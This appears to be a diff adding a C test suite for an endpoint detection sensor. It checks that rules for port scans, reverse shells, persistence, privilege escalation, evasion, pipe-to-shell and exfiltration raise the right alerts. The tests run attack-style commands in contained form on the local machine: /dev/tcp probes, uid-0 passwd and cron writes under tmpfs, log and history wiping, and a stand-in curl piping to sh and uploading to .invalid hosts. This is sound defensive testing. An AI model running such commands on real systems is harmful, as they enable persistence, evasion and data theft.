@@ -1,0 +1,404 @@
+// SPDX-License-Identifier: GPL-2.0-only
+/*
+ * Detection rules on a real sensor: real shells, real connections, the
+ * alerts and evidence that reach the store (rules/, hunt/detect.c).
+ */
+#include <criterion/criterion.h>
+#include <limits.h>
+#include <signal.h>
+#include <stdarg.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <sys/stat.h>
+#include <sys/wait.h>
+#include <unistd.h>
+#include <arpa/inet.h>
+#include <netinet/in.h>
+
+#include "harness.h"
+
+static struct vg_t_host host;
+
+static void setup(void)
+{
+	/* Room for what the rest of a busy machine writes meanwhile: this suite counts exactly. */
+	const char *const args[] = { "--file-ringbuf-kb", "16384", NULL };
+
+	vg_t_host_start(&host, args);
+}
+
+static void teardown(void)
+{
+	if (host.pid > 0)
+		vg_t_host_stop(&host, SIGTERM);
+}
+
+TestSuite(detect, .init = setup, .fini = teardown, .timeout = 120);
+
+static void sh(const char *fmt, ...)
+{
+	char cmd[4096];
+	va_list ap;
+
+	va_start(ap, fmt);
+	vsnprintf(cmd, sizeof(cmd), fmt, ap);
+	va_end(ap);
+	cr_assert_eq(system(cmd), 0, "%s", cmd);
+}
+
+static long long rule_alerts(const char *rule)
+{
+	return vg_t_wait_int(&host, 0, 0, "SELECT count(*) FROM AlertInfo WHERE RuleId = '%s'",
+			     rule);
+}
+
+/*
+ * A shell loop of 1,000 /dev/tcp probes, each in its own subshell, is one
+ * port scan alert with 1,000 evidence rows; a readiness probe (a few
+ * subshells trying one loopback port) raises nothing, and neither raises
+ * "reverse shell".
+ */
+Test(detect, a_1000_port_scan_is_one_alert_with_1000_evidence_rows)
+{
+	/* the readiness probe first: once the scan's alert is complete, its rows were judged */
+	sh("bash -c 'for i in 1 2 3; do (echo > /dev/tcp/127.0.0.1/9) 2>/dev/null && break; "
+	   "done; true'");
+	sh("bash -c 'for p in $(seq 41000 41999); do (echo > /dev/tcp/127.0.0.1/$p) "
+	   "2>/dev/null; done; true'");
+	cr_assert_eq(
+		vg_t_wait_int(&host, 1000, 30000,
+			      "SELECT EvidenceCount FROM AlertInfo WHERE RuleId = 'port_scan'"),
+		1000, "log %s", host.log);
+	cr_expect_eq(rule_alerts("port_scan"), 1);
+	cr_expect_eq(vg_t_wait_int(&host, 1000, 0,
+				   "SELECT count(DISTINCT e.SourceRowId) FROM AlertEvidence e JOIN"
+				   " AlertInfo a USING (AlertId) JOIN DeviceNetworkEvents n ON"
+				   " n.rowid = e.SourceRowId WHERE a.RuleId = 'port_scan' AND"
+				   " n.RemotePort BETWEEN 41000 AND 41999 AND n.ActionType ="
+				   " 'ConnectionAttempt'"),
+		     1000);
+	cr_expect_eq(rule_alerts("reverse_shell"), 0);
+	cr_expect_eq(rule_alerts("reverse_shell_net"), 0);
+	/* The sensor sees the whole machine: only alerts about these probes count here. */
+	cr_expect_eq(
+		vg_t_wait_int(&host, 0, 0,
+			      "SELECT count(DISTINCT AlertId) FROM AlertInfo a JOIN AlertEvidence e"
+			      " USING (AlertId) WHERE a.RuleId != 'port_scan' AND"
+			      " (e.RemotePort = 9 OR e.RemotePort BETWEEN 41000 AND 41999 OR"
+			      " e.ProcessCommandLine LIKE '%%/dev/tcp/127.0.0.1/%%')"),
+		0, "alerts besides the scan's");
+}
+
+/* A connected pair of TCP sockets on loopback: *server is the accepted end. */
+static void tcp_pair(int *client, int *server)
+{
+	struct sockaddr_in sa = { .sin_family = AF_INET,
+				  .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
+	socklen_t len = sizeof(sa);
+	int l = socket(AF_INET, SOCK_STREAM, 0);
+
+	cr_assert_eq(bind(l, (void *)&sa, sizeof(sa)), 0);
+	cr_assert_eq(listen(l, 1), 0);
+	cr_assert_eq(getsockname(l, (void *)&sa, &len), 0);
+	*client = socket(AF_INET, SOCK_STREAM, 0);
+	cr_assert_eq(connect(*client, (void *)&sa, sizeof(sa)), 0);
+	*server = accept(l, NULL, NULL);
+	cr_assert_geq(*server, 0);
+	close(l);
+}
+
+/* Run path with argv on a socket as stdin and stdout, "exit 0" waiting on it; its pid. */
+static pid_t run_on_socket(char *const argv[])
+{
+	int c, a, st;
+	pid_t child;
+
+	tcp_pair(&c, &a);
+	cr_assert_eq(write(c, "exit 0\n", 7), 7);
+	child = fork();
+	cr_assert_geq(child, 0);
+	if (child == 0) {
+		dup2(a, 0);
+		dup2(a, 1);
+		execv(argv[0], argv);
+		_exit(127);
+	}
+	cr_assert_eq(waitpid(child, &st, 0), child);
+	cr_assert(WIFEXITED(st) && WEXITSTATUS(st) == 0, "%s: %d", argv[0], st);
+	close(a);
+	close(c);
+	return child;
+}
+
+/*
+ * A wrapper script whose stdio is a socket (a plug-in started through a
+ * wrapper, the project's WSL relay test) is no reverse shell; a shell
+ * reading its commands from the socket is.
+ */
+Test(detect, a_wrapper_script_on_a_socket_is_no_reverse_shell)
+{
+	char dir[PATH_MAX], script[PATH_MAX + 16];
+	char *wrapper[] = { script, "--transport", "stdio", NULL };
+	char *shell[] = { "/bin/sh", NULL };
+	pid_t w, s;
+	FILE *f;
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-wrapper");
+	snprintf(script, sizeof(script), "%s/plugin-wrapper", dir);
+	f = fopen(script, "w");
+	cr_assert_not_null(f);
+	fputs("#!/bin/sh\nexec /bin/true \"$@\"\n", f);
+	cr_assert_eq(fclose(f), 0);
+	cr_assert_eq(chmod(script, 0755), 0);
+
+	w = run_on_socket(wrapper);
+	s = run_on_socket(shell);
+	cr_assert_eq(vg_t_wait_int(&host, 1, 30000,
+				   "SELECT count(*) FROM AlertInfo a JOIN AlertEvidence e USING"
+				   " (AlertId) WHERE a.RuleId = 'reverse_shell_stdio' AND"
+				   " e.ProcessId = %d",
+				   s),
+		     1, "no alert for a shell reading a socket (log %s)", host.log);
+	/* the wrapper ran as the kernel runs scripts: sh SCRIPT, stdio flagged */
+	cr_expect_eq(
+		vg_t_wait_int(&host, 1, 30000,
+			      "SELECT count(*) FROM DeviceProcessEvents WHERE ProcessId = %d AND"
+			      " ActionType = 'ProcessCreated' AND FileName IN ('sh', 'dash') AND"
+			      " json_extract(AdditionalFields, '$.StdinSocket') = 1",
+			      w),
+		1);
+	cr_expect_eq(rule_alerts("reverse_shell_stdio"), 1, "the wrapper raised an alert");
+	cr_expect_eq(rule_alerts("reverse_shell"), 0);
+	vg_t_rmrf(dir);
+}
+
+/*
+ * Attribution at the time of the event: a shell writes a file, then execs
+ * another program. The file event names the shell (image and command line),
+ * not the program it became, however the rings are drained.
+ */
+Test(detect, an_event_before_an_exec_names_the_program_of_its_time)
+{
+	char dir[PATH_MAX];
+	const int n = 50;
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-attrib");
+	for (int i = 0; i < n; i++)
+		sh("/bin/sh -c 'echo x > %s/unit%d.service; exec /bin/true vg-attrib-marker'", dir,
+		   i);
+	cr_assert_eq(vg_t_wait_int(&host, n, 30000,
+				   "SELECT count(*) FROM DeviceFileEvents WHERE FolderPath LIKE"
+				   " '%s/unit%%.service' AND ActionType = 'FileCreated'",
+				   dir),
+		     n);
+	cr_expect_eq(vg_t_wait_int(&host, n, 0,
+				   "SELECT count(*) FROM DeviceFileEvents WHERE FolderPath LIKE"
+				   " '%s/unit%%.service' AND ActionType = 'FileCreated' AND"
+				   " InitiatingProcessFileName IN ('sh', 'dash', 'bash') AND"
+				   " InitiatingProcessCommandLine LIKE '%%exec /bin/true%%'",
+				   dir),
+		     n, "file events named after the program the shell exec'd later");
+	vg_t_rmrf(dir);
+}
+
+/*
+ * Alerts of rule whose evidence names like (a path or a command line part):
+ * the sensor sees the whole machine, other people's work included.
+ */
+static long long alerts_for(const char *rule, const char *like, long long want, int timeout_ms)
+{
+	return vg_t_wait_int(
+		&host, want, timeout_ms,
+		"SELECT count(DISTINCT a.AlertId) FROM AlertInfo a JOIN AlertEvidence e"
+		" USING (AlertId) WHERE a.RuleId = '%s' AND (e.FolderPath LIKE '%%%s%%'"
+		" OR e.ProcessCommandLine LIKE '%%%s%%')",
+		rule, like, like);
+}
+
+/* A copy of program at dir/name (a stand-in for a tool, or a masquerading binary). */
+static void fake_tool(const char *dir, const char *name, const char *program)
+{
+	sh("cp %s '%s/%s'", program, dir, name);
+}
+
+/*
+ * Persistence, each written for real: in a private mount namespace with a
+ * tmpfs over /etc (nothing of the machine's /etc is touched), and in a
+ * temporary home. The same writes by a program named like a package
+ * manager are the near misses.
+ */
+Test(detect, persistence_writes_alert_and_package_managers_do_not)
+{
+	static const char *const rules[] = {
+		"persist_cron",
+		"persist_systemd",
+		"persist_ld_preload",
+		"persist_pam",
+		"persist_passwd_write",
+		"persist_shell_profile",
+		"persist_authorized_keys",
+	};
+	char dir[PATH_MAX];
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-persist");
+	fake_tool(dir, "dpkg", "/bin/cp");
+	/* near misses first: once the real writes' alerts are there, these were judged */
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+	   " mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
+	   " %s/dpkg /dev/null /etc/cron.d/vgpkg && %s/dpkg /dev/null /etc/pam.d/vgpkg &&"
+	   " %s/dpkg /dev/null /etc/systemd/system/vgpkg.service && cp /dev/null /etc/cron.dx &&"
+	   " echo x > /etc/systemd/system/vgpkg.wants && echo x > /etc/pam.d.vgpkg'",
+	   dir, dir, dir);
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /etc &&"
+	   " mkdir -p /etc/cron.d /etc/systemd/system /etc/pam.d &&"
+	   " echo \"* * * * * root id\" > /etc/cron.d/vgjob &&"
+	   " echo [Service] > /etc/systemd/system/vgjob.service &&"
+	   " echo > /etc/ld.so.preload && echo auth > /etc/pam.d/vgjob &&"
+	   " echo vgjob:x:0:0::/root:/bin/sh >> /etc/passwd'");
+	sh("mkdir -p %s/.ssh && echo vgjob >> %s/.bashrc && echo vgjob >> %s/.ssh/authorized_keys",
+	   dir, dir, dir);
+	cr_expect_eq(alerts_for("persist_cron", "/etc/cron.d/vgjob", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_systemd", "vgjob.service", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_ld_preload", "/etc/ld.so.preload", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_pam", "/etc/pam.d/vgjob", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_passwd_write", "/etc/passwd", 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_shell_profile", dir, 1, 30000), 1);
+	cr_expect_eq(alerts_for("persist_authorized_keys", dir, 1, 30000), 1);
+	for (size_t i = 0; i < sizeof(rules) / sizeof(rules[0]); i++)
+		cr_expect_eq(alerts_for(rules[i], "vgpkg", 0, 0), 0, "%s", rules[i]);
+	cr_expect_eq(alerts_for("persist_cron", "/etc/cron.dx", 0, 0), 0);
+	vg_t_rmrf(dir);
+}
+
+/* Privilege escalation and defence evasion, each done for real, with its near miss. */
+Test(detect, setid_history_log_aslr_and_masquerading)
+{
+	char dir[PATH_MAX];
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-evade");
+	/* near misses: a plain chmod, history appended to, another log removed, ASLR read */
+	sh("cd %s && cp /bin/true plain && chmod 755 plain && echo ls >> .bash_history &&"
+	   " cat /proc/sys/kernel/randomize_va_space > /dev/null && cp /bin/true vgok && ./vgok",
+	   dir);
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
+	   " echo x > /var/log/vgold.log && rm /var/log/vgold.log'");
+	/* the real ones */
+	sh("cd %s && cp /bin/true rootsh && chmod 4755 rootsh && rm .bash_history &&"
+	   " echo x > .zsh_history && : > .zsh_history",
+	   dir);
+	sh("unshare -m --propagation private /bin/sh -c 'mount -t tmpfs vg /var/log &&"
+	   " echo x > /var/log/wtmp && rm /var/log/wtmp'");
+	/* the value it has, written back: a write all the same */
+	sh("v=$(cat /proc/sys/kernel/randomize_va_space) &&"
+	   " echo $v > /proc/sys/kernel/randomize_va_space && setarch $(uname -m) -R /bin/true");
+	sh("cd %s && cp /bin/true sshd && ./sshd", dir);
+
+	cr_expect_eq(alerts_for("privesc_setid_chmod", "rootsh", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_history", "/.bash_history", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_history", "/.zsh_history", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_log_tamper", "/var/log/wtmp", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_aslr", "randomize_va_space", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_aslr_cmdline", "-R /bin/true", 1, 30000), 1);
+	cr_expect_eq(alerts_for("evasion_masquerade", "/sshd", 1, 30000), 1);
+	cr_expect_eq(alerts_for("privesc_setid_chmod", "plain", 0, 0), 0);
+	cr_expect_eq(alerts_for("evasion_log_tamper", "vgold", 0, 0), 0);
+	cr_expect_eq(alerts_for("evasion_masquerade", "vgok", 0, 0), 0);
+	vg_t_rmrf(dir);
+}
+
+/*
+ * Execution, discovery and exfiltration by command line: a stand-in curl
+ * (a copy of /bin/true: nothing leaves the machine) piped to a shell and
+ * uploading, a base64-decoded script, a burst of discovery tools; each
+ * with its near miss.
+ */
+Test(detect, pipe_to_shell_base64_discovery_and_exfiltration)
+{
+	char dir[PATH_MAX];
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-exec");
+	fake_tool(dir, "curl", "/bin/true");
+	/* near misses: a download to a file, decoding to a file, 7 discovery tools, a GET */
+	sh("%s/curl -o %s/x https://vg-near.invalid/x && echo aGk= | base64 -d > /dev/null", dir,
+	   dir);
+	sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; echo vg-few' > /dev/null");
+	sh("%s/curl -s https://vg-near.invalid/get", dir);
+	/* the real ones */
+	/* system()'s shell is the one whose command line pipes */
+	sh("%s/curl -fsSL https://vg-pipe.invalid/i.sh | sh", dir);
+	sh("echo dHJ1ZQo= | base64 -d | sh");
+	sh("/bin/sh -c 'id; whoami; uname -a; df; env; nproc; groups; printenv; mount; echo vg-many'"
+	   " > /dev/null");
+	sh("%s/curl -T /etc/hostname https://vg-exfil.invalid/up", dir);
+
+	cr_expect_eq(alerts_for("exec_pipe_to_shell", "vg-pipe", 1, 30000), 1);
+	cr_expect_eq(alerts_for("exec_base64_script", "dHJ1ZQo=", 1, 30000), 1);
+	cr_expect_eq(alerts_for("exfil_cmdline", "vg-exfil", 1, 30000), 1);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 9, 30000,
+			      "SELECT EvidenceCount FROM AlertInfo a WHERE RuleId ="
+			      " 'discovery_burst' AND EXISTS (SELECT 1 FROM AlertEvidence e WHERE"
+			      " e.AlertId = a.AlertId AND e.FileName = 'printenv')"),
+		9, "one alert, each of the 9 tools its evidence");
+	cr_expect_eq(alerts_for("exec_pipe_to_shell", "vg-near", 0, 0), 0);
+	cr_expect_eq(alerts_for("exec_base64_script", "aGk=", 0, 0), 0);
+	cr_expect_eq(alerts_for("exfil_cmdline", "vg-near", 0, 0), 0);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 0, 0,
+			      "SELECT count(*) FROM AlertEvidence e JOIN DeviceProcessEvents p ON"
+			      " e.SourceTable = 'DeviceProcessEvents' AND p.rowid = e.SourceRowId"
+			      " WHERE p.InitiatingProcessCommandLine LIKE '%%vg-few%%'"),
+		0, "7 tools raised an alert");
+	vg_t_rmrf(dir);
+}
+
+/*
+ * A script run through its interpreter counts as the script (ScriptPath):
+ * ./x.sh with #! (the kernel runs "sh ./x.sh") and sh y.sh from a temporary
+ * directory run from /tmp, and a script "downloaded" (written by a program
+ * named curl: a copy of /bin/cp), made executable and run is the dropper.
+ * A -c command names no script.
+ */
+Test(detect, a_script_counts_as_the_script_not_its_interpreter)
+{
+	char dir[PATH_MAX];
+
+	vg_t_tmpdir(dir, sizeof(dir), "vg-script");
+	fake_tool(dir, "curl", "/bin/cp");
+	sh("cd %s && mkdir src && printf '#!/bin/sh\\nexit 0\\n' > src/x.sh &&"
+	   " printf 'exit 0\\n' > src/y.sh && sh -c 'exit 0'",
+	   dir);
+	sh("cd %s && ./curl src/x.sh x.sh && chmod +x x.sh && ./x.sh && sh src/y.sh", dir);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 1, 30000,
+			      "SELECT count(*) FROM DeviceProcessEvents WHERE ActionType ="
+			      " 'ProcessCreated' AND json_extract(AdditionalFields, '$.ScriptPath')"
+			      " = '%s/x.sh' AND FileName IN ('sh', 'dash')",
+			      dir),
+		1);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 1, 30000,
+			      "SELECT count(*) FROM DeviceProcessEvents WHERE ActionType ="
+			      " 'ProcessCreated' AND json_extract(AdditionalFields, '$.ScriptPath')"
+			      " = '%s/src/y.sh'",
+			      dir),
+		1);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 1, 30000,
+			      "SELECT count(*) FROM AlertInfo a JOIN AlertEvidence e USING"
+			      " (AlertId) WHERE a.RuleId = 'download_exec' AND e.ProcessCommandLine"
+			      " LIKE '%%./x.sh'"),
+		1);
+	cr_expect_eq(alerts_for("exec_from_tmp", "x.sh", 1, 30000), 1);
+	cr_expect_eq(alerts_for("exec_from_tmp", "src/y.sh", 1, 30000), 1);
+	cr_expect_eq(
+		vg_t_wait_int(&host, 0, 0,
+			      "SELECT count(*) FROM DeviceProcessEvents WHERE"
+			      " ProcessCommandLine LIKE '%%exit 0%%' AND ProcessCurrentDirectory"
+			      " = '%s' AND json_type(AdditionalFields, '$.ScriptPath') IS NOT NULL",
+			      dir),
+		0);
+	vg_t_rmrf(dir);
+}
